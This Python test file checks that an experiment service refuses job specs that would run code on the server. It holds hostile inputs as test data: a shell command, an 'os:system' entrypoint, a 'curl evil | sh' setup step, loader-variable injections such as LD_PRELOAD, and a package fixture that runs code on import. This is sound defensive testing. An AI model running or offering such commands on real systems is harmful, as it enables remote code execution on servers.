"""Attack 1: job specs are code execution. A member key must not run arbitrary code on the
server, nor steer an allowed job's loader/interpreter, nor see the server's secrets; nothing
user-supplied is imported in the API process."""

from __future__ import annotations

import json
import sys
import textwrap
from pathlib import Path

import pytest

from assay.platform.jobspec import JobSpec
from assay.service.engine import Engine
from assay.service.jobs.base import JobLaunch
from assay.service.jobs.local import LocalExecutor
from assay.service.jobs.orchestrator import Orchestrator
from assay.service.jobs.policy import JobPolicy
from assay.service.settings import Settings
from assay.storage.factory import open_store

ALLOWED = "assay.generative.workloads.voicebox:run"


def spec(**job) -> dict:  # type: ignore[no-untyped-def]
    return {
        "name": "j", "parameters": [{"name": "x", "type": "float", "bounds": [0, 1]}],
        "objective": "y", "generator": "sobol", "job": job,
    }  # fmt: skip


def refused(r, status: int, field: str) -> None:  # type: ignore[no-untyped-def]
    assert r.status_code == status, r.text
    assert r.json()["error"]["details"]["field"] == field, r.text


def test_member_cannot_run_a_shell_command_or_foreign_entrypoint(make_api) -> None:
    api = make_api()
    member = api.key("member")
    r = api.http.post(
        "/api/v1/experiments", json=spec(command=["sh", "-c", "id > /tmp/owned"]), headers=member
    )
    refused(r, 403, "job.command")
    r = api.http.post("/api/v1/experiments", json=spec(entrypoint="os:system"), headers=member)
    refused(r, 403, "job.entrypoint")
    assert api.http.get("/api/v1/experiments", headers=member).json()["experiments"] == []
    ok = api.http.post("/api/v1/experiments", json=spec(entrypoint=ALLOWED), headers=member)
    assert ok.status_code == 201, ok.text


def test_admin_needs_the_server_flag_for_arbitrary_jobs(make_api) -> None:
    locked = make_api()
    r = locked.http.post(
        "/api/v1/experiments",
        json=spec(command=["python", "train.py"]),
        headers=locked.key("admin"),
    )
    refused(r, 403, "job.command")
    open_ = make_api(allow_arbitrary_jobs=True)
    r = open_.http.post(
        "/api/v1/experiments", json=spec(command=["python", "train.py"]), headers=open_.key()
    )
    refused(r, 403, "job.command")  # a member, even on an open server
    r = open_.http.post(
        "/api/v1/experiments", json=spec(command=["python", "train.py"]), headers=open_.key("admin")
    )
    assert r.status_code == 201, r.text


def test_run_start_rechecks_the_spec_against_current_settings(make_api) -> None:
    api = make_api(allow_arbitrary_jobs=True)
    admin = api.key("admin")
    exp = api.http.post(
        "/api/v1/experiments", json=spec(command=["python", "train.py"]), headers=admin
    ).json()
    api.app.state.settings.allow_arbitrary_jobs = False  # the server restarted without the flag
    refused(api.http.post(f"/api/v1/experiments/{exp['id']}/run:start", headers=admin), 403,
            "job.command")  # fmt: skip
    assert (
        api.http.get(f"/api/v1/experiments/{exp['id']}/run", headers=admin).json()["run_state"]
        is None
    )
    api.app.state.settings.allow_arbitrary_jobs = True
    member = api.key("member")
    refused(api.http.post(f"/api/v1/experiments/{exp['id']}/run:start", headers=member), 403,
            "job.command")  # fmt: skip
    r = api.http.post(f"/api/v1/experiments/{exp['id']}/run:start", headers=admin)
    assert r.status_code == 200 and r.json()["run_state"] == "running"


@pytest.mark.parametrize(
    ("env", "key"),
    [({"LD_PRELOAD": "/tmp/x.so"}, "LD_PRELOAD"), ({"PYTHONPATH": "/tmp"}, "PYTHONPATH"),
     ({"PYTHONSTARTUP": "/tmp/x.py"}, "PYTHONSTARTUP"), ({"BASH_ENV": "/tmp/x"}, "BASH_ENV"),
     ({"OMP_NUM_THREADS": "1", "AWS_SECRET": "x"}, "AWS_SECRET")],
)  # fmt: skip
def test_env_keys_outside_the_allowlist_are_422(make_api, env, key) -> None:
    api = make_api(allow_arbitrary_jobs=True)
    for who in ("member", "admin"):  # loader variables are refused even to admins
        r = api.http.post(
            "/api/v1/experiments", json=spec(entrypoint=ALLOWED, env=env), headers=api.key(who)
        )
        refused(r, 422, f"job.env.{key}")


def test_executor_options_outside_the_allowlist_are_422(make_api) -> None:
    api = make_api()
    member = api.key()
    bad = spec(entrypoint=ALLOWED, executor="slurm",
               executor_options={"slurm_setup": ["curl evil | sh"]})  # fmt: skip
    refused(api.http.post("/api/v1/experiments", json=bad, headers=member), 422,
            "job.executor_options.slurm_setup")  # fmt: skip
    good = spec(entrypoint=ALLOWED, executor="slurm", executor_options={"slurm_partition": "gpu"})
    assert api.http.post("/api/v1/experiments", json=good, headers=member).status_code == 201


def test_nothing_user_supplied_is_imported_in_the_api_process(make_api, tmp_path, monkeypatch):
    pkg = tmp_path / "evilpkg"
    pkg.mkdir()
    marker = tmp_path / "imported"
    (pkg / "__init__.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
    (pkg / "train.py").write_text("def run(params):\n    return {'y': 1.0}\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    api = make_api(allow_arbitrary_jobs=True)
    for who, status in (("member", 403), ("admin", 201)):
        r = api.http.post(
            "/api/v1/experiments", json=spec(entrypoint="evilpkg.train:run"), headers=api.key(who)
        )
        assert r.status_code == status, r.text
    r = api.http.post(
        "/api/v1/experiments", json=spec(entrypoint="evilpkg.train:nope"), headers=api.key("admin")
    )
    refused(r, 422, "job.entrypoint")  # still checked, by reading the source
    assert not marker.exists() and "evilpkg" not in sys.modules


def test_orchestrator_stops_runs_the_policy_no_longer_permits(tmp_path) -> None:
    store = open_store(f"sqlite:///{tmp_path / 'o.db'}")
    engine = Engine(store)
    exp = engine.create_experiment(spec(command=["python", "-c", "print(1)"], max_trials=1))
    engine.set_run(exp.id, "start")
    orch = Orchestrator(engine, {"local": LocalExecutor(cpus=1)}, log_dir=tmp_path / "logs",
                        job_policy=JobPolicy.from_settings(Settings()))  # fmt: skip
    orch.step()
    assert store.list_jobs(experiment_id=exp.id) == []
    assert store.get_experiment(exp.id).run_state == "stopped"
    store.close()


ENV_DUMP = textwrap.dedent(
    """
    import json, os
    json.dump({"y": 1.0, "env": dict(os.environ)}, open(os.environ["ASSAY_RESULT_PATH"], "w"))
    """
)


def test_jobs_start_with_a_minimal_environment(tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("ASSAY_DATABASE_URL", "postgresql://admin:hunter2@db/assay")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "s3cr3t")
    policy = JobPolicy.from_settings(Settings())
    script = tmp_path / "dump_env.py"
    script.write_text(ENV_DUMP)
    job = JobSpec.from_dict({"command": [sys.executable, str(script)],
                             "env": {"OMP_NUM_THREADS": "1"}})  # fmt: skip
    launch = JobLaunch(1, 1, 1, 1, {"x": 0.5}, job, Path(tmp_path / "w"),
                       {"ASSAY_SERVICE_URL": "http://127.0.0.1:8000", "ASSAY_JOB_TOKEN": "t"},
                       base_env=policy.base_env())  # fmt: skip
    ex = LocalExecutor(cpus=1)
    handle = ex.submit(launch)
    import time

    deadline = time.monotonic() + 30
    while (status := ex.poll(handle)).state == "running" and time.monotonic() < deadline:
        time.sleep(0.05)
    assert status.state == "finished", status.error
    env = json.loads(launch.result_path.read_text())["env"]
    assert "ASSAY_DATABASE_URL" not in env and "AWS_SECRET_ACCESS_KEY" not in env
    assert env["ASSAY_JOB_TOKEN"] == "t" and env["ASSAY_SERVICE_URL"].startswith("http")
    assert env["OMP_NUM_THREADS"] == "1" and "PATH" in env
    allowed = set(policy.passthrough) | {"OMP_NUM_THREADS", "PYTHONUNBUFFERED",
                                         "CUDA_VISIBLE_DEVICES", "LC_CTYPE"}  # fmt: skip
    assert {k for k in env if not k.startswith("ASSAY_")} <= allowed, sorted(env)


def test_the_arbitrary_jobs_flag_is_explicit(monkeypatch) -> None:
    from assay.service.cli import _settings, build_parser

    monkeypatch.delenv("ASSAY_ALLOW_ARBITRARY_JOBS", raising=False)
    assert _settings(build_parser().parse_args(["serve"])).allow_arbitrary_jobs is False
    args = build_parser().parse_args(["serve", "--allow-arbitrary-jobs"])
    assert _settings(args).allow_arbitrary_jobs is True
    monkeypatch.setenv("ASSAY_ALLOW_ARBITRARY_JOBS", "true")
    assert _settings(build_parser().parse_args(["serve"])).allow_arbitrary_jobs is True
